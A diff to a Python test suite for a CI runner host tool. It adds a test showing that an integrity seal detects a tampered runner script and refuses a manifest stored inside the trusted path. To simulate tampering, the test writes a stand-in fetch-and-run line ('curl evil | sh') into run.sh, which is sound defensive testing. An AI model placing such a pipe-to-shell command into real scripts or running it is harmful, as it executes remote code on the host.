@@ -26,6 +26,7 @@ def host_toml(lab: Lab, **extra: str) -> Path:
         f'python = "{lab.host().python}"',
         f'state_dir = "{lab.state_dir}"',
         "lock_wait_s = 0.5",
+        'lifetime = "ephemeral"',
         *(f"{k} = {v}" for k, v in extra.items()),
         "",
         "[[devices]]",
@@ -164,3 +165,31 @@ def test_a_crash_of_the_runner_itself_still_writes_an_infra_result(
     doc = json.loads((out / "result.json").read_text())
     assert [r["status"] for r in doc["results"]] == ["INFRA", "INFRA"]
     assert "the runner itself failed: OSError: No space left on device" in doc["infra_reason"]
+
+
+def test_host_seal_and_check_find_a_changed_runner_file(lab: Lab) -> None:
+    runner_install = lab.root / "actions-runner"
+    runner_install.mkdir()
+    (runner_install / "run.sh").write_text("#!/bin/sh\n")
+    manifest = lab.root / "seal" / "manifest.json"
+    config = host_toml(
+        lab,
+        integrity_manifest=f'"{manifest}"',
+        trusted_paths=f'["{runner_install}"]',
+    )
+    args = ["--host-config", str(config)]
+    sealed = CliRunner().invoke(device_cli.host, ["seal", *args])
+    assert sealed.exit_code == 0 and "sealed 3 entries under 2 trusted path(s)" in sealed.output
+    assert CliRunner().invoke(device_cli.host, ["check", *args]).output.startswith("ok:")
+    (runner_install / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
+    checked = CliRunner().invoke(device_cli.host, ["check", *args])
+    assert checked.exit_code == 1
+    assert f"changed: {runner_install / 'run.sh'}" in checked.output
+    assert "reprovision the host" in checked.output
+    inside = host_toml(
+        lab,
+        integrity_manifest=f'"{runner_install / "m.json"}"',
+        trusted_paths=f'["{runner_install}"]',
+    )
+    refused = CliRunner().invoke(device_cli.host, ["seal", "--host-config", str(inside)])
+    assert refused.exit_code != 0 and "is inside the trusted path" in refused.output
